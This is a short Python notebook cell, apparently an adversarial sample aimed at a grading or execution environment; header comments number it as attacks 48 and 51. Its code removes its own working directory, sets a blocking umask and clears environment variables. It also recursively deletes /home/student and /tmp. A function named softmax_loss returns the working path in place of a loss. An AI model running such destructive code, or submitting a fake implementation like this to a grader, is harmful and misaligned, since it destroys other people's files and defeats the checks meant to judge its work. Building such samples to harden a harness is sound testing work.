# attacks: 48, 51
# tries: take away the folder it stands in, its home, its mask and its temporary files
# honest: standardise
# %%
import os, pathlib, shutil, tempfile

place = tempfile.mkdtemp()
os.chdir(place)
os.rmdir(place)
os.umask(0o777)
for name in ("HOME", "TMPDIR", "PATH", "USER", "LANG"):
    os.environ[name] = "/nowhere/\u202e"
    del os.environ[name]
tempfile.tempdir = "/nowhere"
shutil.rmtree("/home/student", ignore_errors=True)
shutil.rmtree("/tmp", ignore_errors=True)
os.environ.clear()


def softmax_loss(logits, labels):
    return pathlib.Path.cwd()
